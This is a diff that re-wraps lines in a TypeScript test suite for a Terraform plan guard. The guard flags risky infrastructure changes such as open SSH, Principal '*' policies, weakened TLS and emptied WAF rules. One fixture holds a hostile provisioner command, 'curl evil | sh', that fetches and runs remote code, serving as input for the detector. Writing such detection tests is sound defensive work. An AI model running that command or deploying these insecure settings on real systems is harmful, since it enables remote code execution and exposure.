@@ -19,7 +19,11 @@ const verdictOn = (plan: PlanJson) => guard([summarize("prod", plan, { list: pro
 const cases: Record<string, { plan: PlanJson; finding: RegExp }> = {
   "a local-exec provisioner": {
     plan: one(change("terraform_data.x", ["create"], null, { input: "x" }), [
-      { address: "terraform_data.x", type: "terraform_data", provisioners: [{ type: "local-exec", expressions: { command: { constant_value: "curl evil | sh" } } }] },
+      {
+        address: "terraform_data.x",
+        type: "terraform_data",
+        provisioners: [{ type: "local-exec", expressions: { command: { constant_value: "curl evil | sh" } } }],
+      },
     ]),
     finding: /^prod runs a local-exec provisioner on terraform_data\.x with the deploy's credentials: "curl evil \| sh"$/,
   },
@@ -32,7 +36,16 @@ const cases: Record<string, { plan: PlanJson; finding: RegExp }> = {
     finding: /^prod stops managing aws_flow_log\.vpc \(a removed block\)/,
   },
   "a policy newly marked sensitive": {
-    plan: one({ ...change("aws_sqs_queue_policy.q", ["update"], { policy: "{}" }, { policy: "{}" }), change: { actions: ["update"], before: { policy: "{}" }, after: { policy: "{}" }, before_sensitive: {}, after_sensitive: { policy: true } } }),
+    plan: one({
+      ...change("aws_sqs_queue_policy.q", ["update"], { policy: "{}" }, { policy: "{}" }),
+      change: {
+        actions: ["update"],
+        before: { policy: "{}" },
+        after: { policy: "{}" },
+        before_sensitive: {},
+        after_sensitive: { policy: true },
+      },
+    }),
     finding: /^prod hides aws_sqs_queue_policy\.q policy from review/,
   },
   'a queue policy allowing Principal "*"': {
@@ -47,26 +60,70 @@ const cases: Record<string, { plan: PlanJson; finding: RegExp }> = {
     finding: /^prod allows Principal "\*" in aws_sqs_queue_policy\.q policy: Allow \{"AWS":"\*"\}: sqs:\*$/,
   },
   "SSH from the internet": {
-    plan: one(change("aws_vpc_security_group_ingress_rule.ssh", ["create"], null, { cidr_ipv4: "0.0.0.0/0", from_port: 22, to_port: 22, ip_protocol: "tcp" })),
+    plan: one(
+      change("aws_vpc_security_group_ingress_rule.ssh", ["create"], null, {
+        cidr_ipv4: "0.0.0.0/0",
+        from_port: 22,
+        to_port: 22,
+        ip_protocol: "tcp",
+      }),
+    ),
     finding: /^prod opens aws_vpc_security_group_ingress_rule\.ssh to the internet: ingress port 22 from 0\.0\.0\.0\/0$/,
   },
   "HTTPS from the internet to the instances, not the load balancer": {
-    plan: one(change("aws_security_group_rule.app", ["create"], null, { type: "ingress", ipv6_cidr_blocks: ["::/0"], from_port: 443, to_port: 443 }), [
-      { address: "aws_security_group_rule.app", type: "aws_security_group_rule", expressions: { security_group_id: { references: ["aws_security_group.instances.id", "aws_security_group.instances"] } } },
-      { address: "aws_lb.alb", type: "aws_lb", expressions: { security_groups: { references: ["aws_security_group.alb.id", "aws_security_group.alb"] } } },
-    ]),
+    plan: one(
+      change("aws_security_group_rule.app", ["create"], null, {
+        type: "ingress",
+        ipv6_cidr_blocks: ["::/0"],
+        from_port: 443,
+        to_port: 443,
+      }),
+      [
+        {
+          address: "aws_security_group_rule.app",
+          type: "aws_security_group_rule",
+          expressions: { security_group_id: { references: ["aws_security_group.instances.id", "aws_security_group.instances"] } },
+        },
+        {
+          address: "aws_lb.alb",
+          type: "aws_lb",
+          expressions: { security_groups: { references: ["aws_security_group.alb.id", "aws_security_group.alb"] } },
+        },
+      ],
+    ),
     finding: /^prod opens aws_security_group_rule\.app to the internet: ingress port 443 from ::\/0$/,
   },
   "the public access block turned off": {
-    plan: one(change("aws_s3_bucket_public_access_block.logs", ["update"], { block_public_acls: true, block_public_policy: true }, { block_public_acls: true, block_public_policy: false })),
+    plan: one(
+      change(
+        "aws_s3_bucket_public_access_block.logs",
+        ["update"],
+        { block_public_acls: true, block_public_policy: true },
+        { block_public_acls: true, block_public_policy: false },
+      ),
+    ),
     finding: /^prod turns S3 public access blocking off on aws_s3_bucket_public_access_block\.logs: block_public_policy$/,
   },
   "a weaker TLS policy": {
-    plan: one(change("aws_lb_listener.https", ["update"], { ssl_policy: "ELBSecurityPolicy-TLS13-1-2-2021-06" }, { ssl_policy: "ELBSecurityPolicy-TLS-1-0-2015-04" })),
+    plan: one(
+      change(
+        "aws_lb_listener.https",
+        ["update"],
+        { ssl_policy: "ELBSecurityPolicy-TLS13-1-2-2021-06" },
+        { ssl_policy: "ELBSecurityPolicy-TLS-1-0-2015-04" },
+      ),
+    ),
     finding: /^prod weakens TLS on aws_lb_listener\.https: "ELBSecurityPolicy-TLS13-1-2-2021-06" → "ELBSecurityPolicy-TLS-1-0-2015-04"$/,
   },
   "WAF rules emptied": {
-    plan: one(change("aws_wafv2_web_acl.waf", ["update"], { rule: [], rule_json: JSON.stringify([{ Name: "a" }, { Name: "b" }]) }, { rule: [], rule_json: "[]" })),
+    plan: one(
+      change(
+        "aws_wafv2_web_acl.waf",
+        ["update"],
+        { rule: [], rule_json: JSON.stringify([{ Name: "a" }, { Name: "b" }]) },
+        { rule: [], rule_json: "[]" },
+      ),
+    ),
     finding: /^prod empties the WAF web ACL aws_wafv2_web_acl\.waf: it had 2 rule\(s\)$/,
   },
   "log retention cut": {
@@ -94,8 +151,16 @@ const cases: Record<string, { plan: PlanJson; finding: RegExp }> = {
     finding: /^prod sets max_size of aws_autoscaling_group\.web to 0 \(was 4\)$/,
   },
   "a deployed group's launches suspended": {
-    plan: one(change("aws_autoscaling_group.web", ["update"], { suspended_processes: ["AZRebalance"] }, { suspended_processes: ["AZRebalance", "Launch", "ReplaceUnhealthy"] })),
-    finding: /^prod suspends Launch, ReplaceUnhealthy on aws_autoscaling_group\.web: it stops launching, registering or replacing serving instances$/,
+    plan: one(
+      change(
+        "aws_autoscaling_group.web",
+        ["update"],
+        { suspended_processes: ["AZRebalance"] },
+        { suspended_processes: ["AZRebalance", "Launch", "ReplaceUnhealthy"] },
+      ),
+    ),
+    finding:
+      /^prod suspends Launch, ReplaceUnhealthy on aws_autoscaling_group\.web: it stops launching, registering or replacing serving instances$/,
   },
   "a fixed response for the whole site": {
     plan: one(
@@ -105,7 +170,8 @@ const cases: Record<string, { plan: PlanJson; finding: RegExp }> = {
         action: [{ type: "fixed-response", fixed_response: [{ status_code: "503" }] }],
       }),
     ),
-    finding: /^prod answers the site itself with a fixed response ahead of the default forward: aws_lb_listener_rule\.maintenance priority 1: path_pattern \["\/\*"\] → fixed-response 503$/,
+    finding:
+      /^prod answers the site itself with a fixed response ahead of the default forward: aws_lb_listener_rule\.maintenance priority 1: path_pattern \["\/\*"\] → fixed-response 503$/,
   },
   "a state that holds one resource of many": {
     plan: planOf(
@@ -124,7 +190,9 @@ describe("what a reviewer could miss", () => {
     expect(risks).toHaveLength(finding.source.includes("provisioner") ? 2 : 1);
     const verdict = verdictOn(plan);
     expect(verdict.blocked).toBe(true);
-    expect(verdict.reasons).toEqual([`prod (protected) has ${risks.length} change(s) that run commands, leave the state, open access, lose data or take capacity away`]);
+    expect(verdict.reasons).toEqual([
+      `prod (protected) has ${risks.length} change(s) that run commands, leave the state, open access, lose data or take capacity away`,
+    ]);
   });
 
   it.each(Object.entries(cases))("puts %s on the first screen, in text and Markdown", (_, { plan, finding }) => {
@@ -143,36 +211,91 @@ describe("what a reviewer could miss", () => {
   });
 
   it("passes the allow-destroy override, and records it", () => {
-    const verdict = guard([summarize("prod", cases["a KMS key disabled"]!.plan, { list: protectedList({}) })], { allowDestroy: true, reason: "label allow-destroy:prod" });
+    const verdict = guard([summarize("prod", cases["a KMS key disabled"]!.plan, { list: protectedList({}) })], {
+      allowDestroy: true,
+      reason: "label allow-destroy:prod",
+    });
     expect(verdict).toMatchObject({ blocked: false, overriddenBy: "label allow-destroy:prod" });
   });
 });
 
 describe("what is not a risk", () => {
   const quiet: Record<string, PlanJson> = {
-    "HTTP and HTTPS from the internet to the load balancer": one(change('aws_vpc_security_group_ingress_rule.https["0.0.0.0/0"]', ["create"], null, { cidr_ipv4: "0.0.0.0/0", from_port: 443, to_port: 443 }), [
-      { address: "aws_vpc_security_group_ingress_rule.https", type: "aws_vpc_security_group_ingress_rule", expressions: { security_group_id: { references: ["aws_security_group.alb.id", "aws_security_group.alb"] } } },
-      { address: "aws_lb.alb", type: "aws_lb", expressions: { security_groups: { references: ["aws_security_group.alb.id", "aws_security_group.alb"] } } },
-    ]),
-    'a TLS-only deny for Principal "*"': one(change("aws_sqs_queue_policy.q", ["create"], null, { policy: policy({ Effect: "Deny", Principal: "*", Action: "sqs:*", Condition: { Bool: { "aws:SecureTransport": "false" } } }) })),
-    'a Principal "*" statement that was already deployed': one(
-      change("aws_sqs_queue_policy.q", ["update"], { policy: policy({ Effect: "Allow", Principal: "*", Action: "sqs:SendMessage" }), x: 1 }, { policy: policy({ Effect: "Allow", Principal: "*", Action: "sqs:SendMessage" }), x: 2 }),
+    "HTTP and HTTPS from the internet to the load balancer": one(
+      change('aws_vpc_security_group_ingress_rule.https["0.0.0.0/0"]', ["create"], null, {
+        cidr_ipv4: "0.0.0.0/0",
+        from_port: 443,
+        to_port: 443,
+      }),
+      [
+        {
+          address: "aws_vpc_security_group_ingress_rule.https",
+          type: "aws_vpc_security_group_ingress_rule",
+          expressions: { security_group_id: { references: ["aws_security_group.alb.id", "aws_security_group.alb"] } },
+        },
+        {
+          address: "aws_lb.alb",
+          type: "aws_lb",
+          expressions: { security_groups: { references: ["aws_security_group.alb.id", "aws_security_group.alb"] } },
+        },
+      ],
     ),
-    "a stronger TLS policy": one(change("aws_lb_listener.https", ["update"], { ssl_policy: "ELBSecurityPolicy-TLS-1-2-2017-01" }, { ssl_policy: "ELBSecurityPolicy-TLS13-1-2-2021-06" })),
+    'a TLS-only deny for Principal "*"': one(
+      change("aws_sqs_queue_policy.q", ["create"], null, {
+        policy: policy({ Effect: "Deny", Principal: "*", Action: "sqs:*", Condition: { Bool: { "aws:SecureTransport": "false" } } }),
+      }),
+    ),
+    'a Principal "*" statement that was already deployed': one(
+      change(
+        "aws_sqs_queue_policy.q",
+        ["update"],
+        { policy: policy({ Effect: "Allow", Principal: "*", Action: "sqs:SendMessage" }), x: 1 },
+        { policy: policy({ Effect: "Allow", Principal: "*", Action: "sqs:SendMessage" }), x: 2 },
+      ),
+    ),
+    "a stronger TLS policy": one(
+      change(
+        "aws_lb_listener.https",
+        ["update"],
+        { ssl_policy: "ELBSecurityPolicy-TLS-1-2-2017-01" },
+        { ssl_policy: "ELBSecurityPolicy-TLS13-1-2-2021-06" },
+      ),
+    ),
     "longer retention": one(change("aws_cloudwatch_log_group.flow", ["update"], { retention_in_days: 30 }, { retention_in_days: 0 })),
     "a fixed 403 on /stress*": one(
-      change("aws_lb_listener_rule.stress", ["create"], null, { priority: 10, condition: [{ path_pattern: [{ values: ["/stress*"] }] }], action: [{ type: "fixed-response", fixed_response: [{ status_code: "403" }] }] }),
+      change("aws_lb_listener_rule.stress", ["create"], null, {
+        priority: 10,
+        condition: [{ path_pattern: [{ values: ["/stress*"] }] }],
+        action: [{ type: "fixed-response", fixed_response: [{ status_code: "403" }] }],
+      }),
     ),
     "benign capacity settings on a deployed group": one(
       change(
         "aws_autoscaling_group.web",
         ["update"],
         { min_size: 2, max_size: 4 },
-        { min_size: 2, max_size: 4, suspended_processes: ["AZRebalance"], termination_policies: ["OldestLaunchTemplate", "Default"], default_instance_warmup: 120, max_instance_lifetime: 604800 },
+        {
+          min_size: 2,
+          max_size: 4,
+          suspended_processes: ["AZRebalance"],
+          termination_policies: ["OldestLaunchTemplate", "Default"],
+          default_instance_warmup: 120,
+          max_instance_lifetime: 604800,
+        },
       ),
     ),
-    "launches suspended already before the change": one(change("aws_autoscaling_group.web", ["update"], { suspended_processes: ["Launch"], max_size: 4 }, { suspended_processes: ["Launch"], max_size: 5 })),
-    "a new queue in a deployed environment": planOf(Array.from({ length: 3 }, (_, i) => change(`aws_sqs_queue.q${i}`, ["create"], null, {})), DEPLOYED),
+    "launches suspended already before the change": one(
+      change(
+        "aws_autoscaling_group.web",
+        ["update"],
+        { suspended_processes: ["Launch"], max_size: 4 },
+        { suspended_processes: ["Launch"], max_size: 5 },
+      ),
+    ),
+    "a new queue in a deployed environment": planOf(
+      Array.from({ length: 3 }, (_, i) => change(`aws_sqs_queue.q${i}`, ["create"], null, {})),
+      DEPLOYED,
+    ),
     "the first deploy, from an empty state": planOf(Array.from({ length: 9 }, (_, i) => change(`aws_subnet.n${i}`, ["create"], null, {}))),
   };
 
@@ -184,15 +307,33 @@ describe("what is not a risk", () => {
 
 describe("access shown in the summary", () => {
   it("shows the ports and CIDRs of created rules, the principals and actions of policies, and what listener rules do", () => {
-    expect(accessOf(change("aws_vpc_security_group_ingress_rule.ssh", ["create"], null, { cidr_ipv4: "0.0.0.0/0", from_port: 22, to_port: 22, ip_protocol: "tcp" }))).toEqual([
-      "ingress tcp 22 from 0.0.0.0/0",
-    ]);
-    expect(accessOf(change("aws_kms_key_policy.k", ["update"], {}, { policy: policy({ Effect: "Allow", Principal: "*", Action: ["kms:Decrypt", "kms:Encrypt"] }) }))).toEqual([
-      'policy: Allow "*": kms:Decrypt, kms:Encrypt',
-    ]);
     expect(
       accessOf(
-        change("aws_lb_listener_rule.api", ["create"], null, { priority: 20, condition: [{ host_header: [{ values: ["api.example.com"] }] }], action: [{ type: "forward" }] }),
+        change("aws_vpc_security_group_ingress_rule.ssh", ["create"], null, {
+          cidr_ipv4: "0.0.0.0/0",
+          from_port: 22,
+          to_port: 22,
+          ip_protocol: "tcp",
+        }),
+      ),
+    ).toEqual(["ingress tcp 22 from 0.0.0.0/0"]);
+    expect(
+      accessOf(
+        change(
+          "aws_kms_key_policy.k",
+          ["update"],
+          {},
+          { policy: policy({ Effect: "Allow", Principal: "*", Action: ["kms:Decrypt", "kms:Encrypt"] }) },
+        ),
+      ),
+    ).toEqual(['policy: Allow "*": kms:Decrypt, kms:Encrypt']);
+    expect(
+      accessOf(
+        change("aws_lb_listener_rule.api", ["create"], null, {
+          priority: 20,
+          condition: [{ host_header: [{ values: ["api.example.com"] }] }],
+          action: [{ type: "forward" }],
+        }),
       ),
     ).toEqual(['priority 20: host_header ["api.example.com"] → forward']);
   });
@@ -200,9 +341,15 @@ describe("access shown in the summary", () => {
   it("lists them, uncollapsed, in each environment's section", () => {
     const summary = summarize("prod", cases["SSH from the internet"]!.plan);
     const markdown = renderMarkdown([summary]);
-    expect(markdown).toMatch(/\*\*Access created or changed\*\* \(1\)\n\n- create `aws_vpc_security_group_ingress_rule\.ssh`: `ingress tcp 22 from 0\.0\.0\.0\/0`/);
-    expect(markdown.indexOf("Access created or changed")).toBeLessThan(markdown.indexOf("<details>") === -1 ? Infinity : markdown.indexOf("<details>"));
-    expect(renderText([summary])).toMatch(/access \(create\) aws_vpc_security_group_ingress_rule\.ssh\n {6}ingress tcp 22 from 0\.0\.0\.0\/0/);
+    expect(markdown).toMatch(
+      /\*\*Access created or changed\*\* \(1\)\n\n- create `aws_vpc_security_group_ingress_rule\.ssh`: `ingress tcp 22 from 0\.0\.0\.0\/0`/,
+    );
+    expect(markdown.indexOf("Access created or changed")).toBeLessThan(
+      markdown.indexOf("<details>") === -1 ? Infinity : markdown.indexOf("<details>"),
+    );
+    expect(renderText([summary])).toMatch(
+      /access \(create\) aws_vpc_security_group_ingress_rule\.ssh\n {6}ingress tcp 22 from 0\.0\.0\.0\/0/,
+    );
   });
 
   it("counts forgotten resources in the table and lists them", () => {
@@ -215,7 +362,13 @@ describe("access shown in the summary", () => {
 
 describe("TLS policies ranked", () => {
   it("orders TLS 1.3-only above 1.3 with 1.2, above 1.2, above 1.1, above 1.0", () => {
-    const ranks = ["ELBSecurityPolicy-TLS13-1-3-2021-06", "ELBSecurityPolicy-TLS13-1-2-2021-06", "ELBSecurityPolicy-TLS-1-2-2017-01", "ELBSecurityPolicy-TLS-1-1-2017-01", "ELBSecurityPolicy-2016-08"].map(tlsRank);
+    const ranks = [
+      "ELBSecurityPolicy-TLS13-1-3-2021-06",
+      "ELBSecurityPolicy-TLS13-1-2-2021-06",
+      "ELBSecurityPolicy-TLS-1-2-2017-01",
+      "ELBSecurityPolicy-TLS-1-1-2017-01",
+      "ELBSecurityPolicy-2016-08",
+    ].map(tlsRank);
     expect(ranks).toEqual([5, 4, 3, 2, 1]);
   });
 });
